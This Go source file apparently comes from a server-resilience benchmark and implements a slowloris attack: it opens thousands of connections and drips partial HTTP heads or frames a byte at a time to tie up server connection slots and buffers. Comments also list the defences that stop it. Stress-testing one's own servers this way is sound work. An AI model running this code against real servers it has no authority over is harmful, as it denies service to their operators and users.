package attack

import (
	"fmt"
	"time"

	"golang.org/x/sys/unix"

	"weir/bench/ring"
	"weir/bench/sock"
	"weir/bench/target"
	"weir/bench/wire"
)

// slowloris opens many connections and drips a request into each, a few bytes at a time, that never becomes
// whole: an HTTP head whose fields never end, a frame of which a byte comes now and then, a line without an end.
//
//	attacker                 server
//	   | connect --------------> |
//	   | "G" ------------------> |  waits for the rest, holding a descriptor and a buffer
//	   |      ... interval ...   |
//	   | "E" ------------------> |  a timeout that begins anew with each byte never ends
//
// Aimed at: connection slots and buffers, at the price of a byte a second each.
// What ought to stop it: a deadline for a whole frame that arriving bytes do not put off, a least rate, a limit
// on connections for each source. The ages at which connections were closed show which deadline it was.
var slowloris = Kind{
	Name:  "slowloris",
	Help:  "drips heads or frames a byte at a time into many connections: aims at connection slots and buffers",
	Units: "drips",
	defaults: Options{
		Conns: 2_000, Count: 50_000_000, Size: 1, Frame: 1000, Interval: time.Second,
		Duration: 30 * time.Second, Sources: 20, Loops: 1, Nice: 10,
	},
	total: 1,
	check: func(o Options, _ target.Target) error {
		if o.Size < 1 {
			return fmt.Errorf("size must be at least 1: a drip is a byte or more")
		}
		return nil
	},
	loop: func(r *run) error { return (&slow{run: r, offsets: make([]int64, len(r.conns))}).drip() },
}

type slow struct {
	*run
	stream  *wire.Stream
	offsets []int64            // parallel to conns: bytes of the stream written
	next    ring.Queue[handle] // whose drip is due next; one entry for each connection that stands
	sent    int64
	out     []byte
}

func (s *slow) drip() (err error) {
	if s.stream, err = wire.NewStream(s.target, s.opts.Frame); err != nil {
		return err
	}
	pace, err := newPace(s.opts.Rate)
	if err != nil {
		return err
	}
	for !s.over() && s.sent < s.opts.Count {
		now := s.now()
		for n := 0; n < dialsPerTurn && !s.spent() && len(s.free) > 0 && pace.take(now); n++ {
			if !s.dial() {
				break
			}
		}
		for s.next.Len() > 0 && s.next.First().at <= now {
			s.feed(s.next.Pop())
		}
		if s.spent() && s.used() == 0 {
			return nil
		}
		wait := maxWait
		if !s.spent() && len(s.free) > 0 {
			wait = max(pace.wait(now), 200*time.Microsecond) // no hurry: the point is to be many, not quick
		}
		if s.next.Len() > 0 {
			wait = min(wait, max(0, s.next.First().at-now))
		}
		s.turn(wait, s)
	}
	return nil
}

func (s *slow) stood(i int32) {
	sock.NoDelay(int(s.conns[i].fd))
	s.offsets[i] = 0
	s.feed(handle{i, s.conns[i].generation, s.now()})
}

func (s *slow) readable(i int32) { s.read(i, func([]byte) bool { return true }) }
func (s *slow) writable(int32)   {}

// feed sends one drip and puts the connection back in line. One that ended meanwhile drops out.
func (s *slow) feed(h handle) {
	c := &s.conns[h.slot]
	if c.fd < 0 || c.generation != h.generation {
		return
	}
	s.out = s.stream.Append(s.out[:0], s.offsets[h.slot], s.opts.Size)
	n, err := sock.Write(int(c.fd), s.out)
	if err != nil && err != unix.EAGAIN {
		// EPIPE or a reset: an answer that came before it still counts.
		c.broke = true
		s.read(h.slot, func([]byte) bool { return true })
		if c.fd >= 0 && c.generation == h.generation {
			s.end(h.slot, byReset)
		}
		return
	}
	s.offsets[h.slot] += int64(n)
	s.counts.bytes.Add(int64(n))
	if n > 0 {
		s.sent++
		s.counts.units.Add(1)
	}
	h.at += s.opts.Interval
	s.next.Push(h)
}
